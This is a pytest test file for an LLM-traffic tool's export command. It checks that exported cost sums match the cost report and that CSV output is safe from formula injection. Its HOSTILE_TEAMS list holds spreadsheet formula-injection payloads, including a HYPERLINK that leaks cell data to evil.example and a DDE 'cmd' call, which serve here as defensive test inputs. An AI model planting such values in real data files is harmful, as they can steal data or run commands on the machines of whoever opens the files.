"""`llmtap export` with money (issue 14), on the corpus HAR imported into SQLite and
PostgreSQL: in jsonl, csv and parquet the sums of `cost_usd` and of each of its parts
equal `llmtap report cost --format json`, in total and per team, to the pico-dollar, with
rows stored unpriced priced first as the report prices them; unpriced rows have empty
costs (never 0) and the money columns are there even when no row is priced; a CSV read
with Python's csv module has no cell that a spreadsheet would take for a formula.

Not responsible for the prices themselves (test_cost.py, test_billing_*.py)."""

from __future__ import annotations

import copy
import csv
import io
import json
import re
from collections import defaultdict
from collections.abc import Iterator
from datetime import timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import pytest
from sqlalchemy import update

from llmtap.analytics.export_rows import COLUMNS, MONEY
from llmtap.storage import schema
from llmtap.storage.engine import make_engine
from tests.analytics.conftest import BACKENDS, blank_database
from tests.corpus_tools import CORPUS, HAR_START, HAR_STEP, make_har
from tests.helpers import llmtap

pytestmark = pytest.mark.timeout(300)

FORMATS = ("jsonl", "csv", "parquet")
MONEY_NAMES = [name for name, _ in MONEY]
PARTS = MONEY_NAMES[1:]  # input, cache read, cache write, output, fee
# Team names a client may send: a spreadsheet would run each as a formula.
HOSTILE_TEAMS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1)", "-2+3", "+cmd|' /C calc'!A0")
TEAMS = ("alpha", *HOSTILE_TEAMS)
FORMULA_START = ("=", "+", "-", "@")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
PLAIN_DECIMAL = re.compile(r"\d+(?:\.\d+)?")


def _unpriced_entries(entries: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Two more Chat calls after the corpus: one to a host nobody vouches for (unpriced,
    `unverified_host`) and one of a model no price table has (`unknown_model`)."""
    template = next(
        e
        for e in entries
        if e["request"]["url"].endswith("/chat/completions")
        and e["response"]["status"] == 200
        and '"model"' in e["response"]["content"]["text"]
    )
    at = HAR_START + len(entries) * HAR_STEP
    unverified = copy.deepcopy(template)
    unverified["request"]["url"] = "https://llm.internal.example/v1/chat/completions"
    unknown = copy.deepcopy(template)
    for part in (unknown["request"]["postData"], unknown["response"]["content"]):
        part["text"] = re.sub(r'"model"\s*:\s*"[^"]*"', '"model": "nobody-prices-this-model-1"', part["text"])
    for offset, entry in enumerate((unverified, unknown)):
        entry["startedDateTime"] = (at + offset * HAR_STEP).isoformat().replace("+00:00", "Z")
    return [unverified, unknown]


@pytest.fixture(scope="module", params=BACKENDS)
def store(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The corpus HAR (teams round-robin over TEAMS, two unpriced calls added) imported."""
    folder = tmp_path_factory.mktemp(f"export-{request.param}")
    har = folder / "corpus.har"
    make_har(CORPUS, har, teams=TEAMS)
    data = json.loads(har.read_text())
    data["log"]["entries"] += _unpriced_entries(data["log"]["entries"])
    har.write_text(json.dumps(data))
    with blank_database(request.param, folder) as url:
        result = llmtap("import", str(har), "--db", url)
        assert result.code == 0, result.err
        yield url


def forget_prices(url: str) -> None:
    """Make every other row look stored without a price (imported before a pricer ran)."""
    engine = make_engine(url)
    try:
        x = schema.exchanges.c
        cleared = {name: None for name in ("price_status", "price_version", "cost_total_pico", "cost_input_pico")}
        with engine.begin() as connection:
            ids = sorted(connection.execute(schema.exchanges.select().with_only_columns(x.id)).scalars())
            connection.execute(update(schema.exchanges).where(x.id.in_(ids[::2])).values(**cleared))
    finally:
        engine.dispose()


def export(url: str, fmt: str, folder: Path, *args: str) -> tuple[list[dict[str, Any]], str]:
    """The exported rows (money as Decimal or None, teams as written) and the file's text
    (jsonl, csv) or its Parquet schema (parquet)."""
    target = folder / f"export.{fmt}"
    result = llmtap("export", "--format", fmt, "-o", str(target), *args, "--db", url)
    assert result.code == 0, result.err
    if fmt == "jsonl":
        text = target.read_text()
        return [json.loads(line, parse_float=Decimal) for line in text.splitlines()], text
    if fmt == "csv":
        text = target.read_text()
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        for row in rows:
            for name in MONEY_NAMES:
                row[name] = Decimal(row[name]) if row[name] != "" else None
            row["price_status"] = row["price_status"] or None
        return rows, text
    connection = duckdb.connect()
    try:
        # times as text: DuckDB hands a TIMESTAMPTZ to Python through pytz, not installed here
        times = ", ".join(f"CAST({name} AS VARCHAR) AS {name}" for name, kind in COLUMNS if kind == "TIMESTAMPTZ")
        result_set = connection.execute(f"SELECT * REPLACE ({times}) FROM read_parquet(?)", [str(target)])
        names = [d[0] for d in result_set.description]
        rows = [dict(zip(names, values, strict=True)) for values in result_set.fetchall()]
        kinds = connection.execute(
            "SELECT name, logical_type FROM parquet_schema(?) WHERE name IN ?", [str(target), MONEY_NAMES]
        ).fetchall()
    finally:
        connection.close()
    return rows, json.dumps(dict(kinds), default=str)


def as_decimal(value: Any) -> Decimal:
    return Decimal(str(value))


def team_of(row: dict[str, Any], fmt: str) -> str:
    """The team as the client sent it: CSV shows a formula-like one with a leading `'`."""
    team = row["team"]
    if fmt == "csv" and team.startswith("'") and team[1:].lstrip(" ").startswith(FORMULA_START):
        return team[1:]
    return team


def report_cost(url: str, *args: str) -> list[dict[str, Any]]:
    result = llmtap("report", "cost", "--by", "team", *args, "--format", "json", "--db", url)
    assert result.code == 0, result.err
    return result.json()


def sums(rows: list[dict[str, Any]], name: str) -> Decimal:
    return sum((as_decimal(r[name]) for r in rows if r.get(name) is not None), Decimal(0))


@pytest.mark.parametrize("fmt", FORMATS)
def test_export_sums_equal_report_cost_to_the_pico(store, fmt, tmp_path):
    forget_prices(store)
    rows, _ = export(store, fmt, tmp_path)  # the export prices them first, as the report would
    assert rows and all(row["price_status"] is not None for row in rows)
    report = report_cost(store)
    assert len(rows) == sum(r["requests"] for r in report)
    assert sums(rows, "cost_usd") > 0
    fees_in_report = all("fee_cost_usd" in r for r in report)
    for name in MONEY_NAMES:
        if name == "fee_cost_usd" and not fees_in_report:
            continue  # the report has no fee column yet: the per-row identity below holds it
        assert sums(rows, name) == sums(report, name), name

    by_team: dict[str, list[dict[str, Any]]] = defaultdict(list)
    for row in rows:
        by_team[team_of(row, fmt)].append(row)
    assert set(by_team) == set(TEAMS)
    for line in report:
        mine = by_team[line["team"]]
        assert len(mine) == line["requests"], line["team"]
        for name in MONEY_NAMES:
            if name in line:
                assert sums(mine, name) == sums([line], name), (line["team"], name)

    for row in rows:  # a priced row's parts add up to its cost; fees are part of it
        if row["price_status"] == "priced":
            parts = sum(as_decimal(row[name]) for name in PARTS)
            assert as_decimal(row["cost_usd"]) == parts, row["id"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_money_is_exact_decimal_text_and_type(store, fmt, tmp_path):
    rows, text = export(store, fmt, tmp_path)
    priced = [row for row in rows if row["price_status"] == "priced"]
    assert priced
    # Some costs need all twelve places a pico-dollar has, and none is rounded to fewer.
    places = {-as_decimal(row["cost_usd"]).normalize().as_tuple().exponent for row in priced}
    assert max(places) >= 8, places
    if fmt == "jsonl":
        assert re.findall(r'"cost_usd": (\S+?)[,}]', text)
        for value in re.findall(r'"\w+_usd": (\S+?)[,}]', text):
            assert value == "null" or PLAIN_DECIMAL.fullmatch(value), value
    elif fmt == "csv":
        for row in csv.DictReader(io.StringIO(text, newline="")):
            for name in MONEY_NAMES:
                assert row[name] == "" or PLAIN_DECIMAL.fullmatch(row[name]), (name, row[name])
    else:
        kinds = json.loads(text)
        assert set(kinds) == set(MONEY_NAMES)
        assert all("scale=12" in kind for kind in kinds.values()), kinds


@pytest.mark.parametrize("fmt", FORMATS)
def test_unpriced_rows_have_empty_costs_and_the_columns_stay(store, fmt, tmp_path):
    rows, _ = export(store, fmt, tmp_path)
    assert all(set(MONEY_NAMES) <= set(row) for row in rows)
    unpriced = [row for row in rows if row["price_status"] != "priced"]
    statuses = {(row["price_status"], row["price_reason"] or None) for row in unpriced}
    assert {("unpriced", "unverified_host"), ("unpriced", "unknown_model")} <= statuses, statuses
    assert ("usage_missing", None) in statuses, statuses
    for row in unpriced:
        assert all(row[name] is None for name in MONEY_NAMES), row

    # A period holding only the unverified call: nothing in it is priced, the columns stay.
    last = rows[-2]
    assert last["price_reason"] == "unverified_host"
    started = str(last["started_at"]).replace(" ", "T")[:19]
    only, text = export(store, fmt, tmp_path, "--since", started, "--until", started[:17] + "59")
    assert [row["id"] for row in only] == [last["id"]]
    assert all(only[0][name] is None for name in MONEY_NAMES)
    if fmt == "csv":
        assert text.splitlines()[0].split(",") == [name for name, _ in COLUMNS]


def test_csv_has_no_formula_cells(store, tmp_path):
    rows, text = export(store, "csv", tmp_path)
    cells = [cell for record in csv.reader(io.StringIO(text, newline="")) for cell in record]
    assert len(cells) > len(COLUMNS) * 40
    for cell in cells:
        if cell.lstrip(" \n").startswith(FORMULA_START):
            assert NUMBER.fullmatch(cell.strip(" ")), cell
    teams = {row["team"] for row in rows}
    assert {"'" + team for team in HOSTILE_TEAMS} <= teams, teams


def test_a_period_sums_like_the_report_of_that_period(store, tmp_path):
    since = (HAR_START + 10 * HAR_STEP).isoformat()
    until = (HAR_START + timedelta(hours=3)).isoformat()
    rows, _ = export(store, "jsonl", tmp_path, "--since", since, "--until", until)
    report = report_cost(store, "--since", since, "--until", until)
    assert 0 < len(rows) == sum(r["requests"] for r in report) < 40
    assert sums(rows, "cost_usd") == sums(report, "cost_usd") > 0


def test_rows_name_their_conversation(store, tmp_path):
    rows, _ = export(store, "jsonl", tmp_path)
    ids = {row["id"]: row for row in rows}
    assert any(row["conversation_id"] != row["id"] for row in rows)  # some row is a later turn
    for row in rows:
        first = ids[row["conversation_id"]]  # a whole export holds every conversation's start
        assert (first["started_at"], first["id"]) <= (row["started_at"], row["id"])
        assert first["conversation_id"] == first["id"]
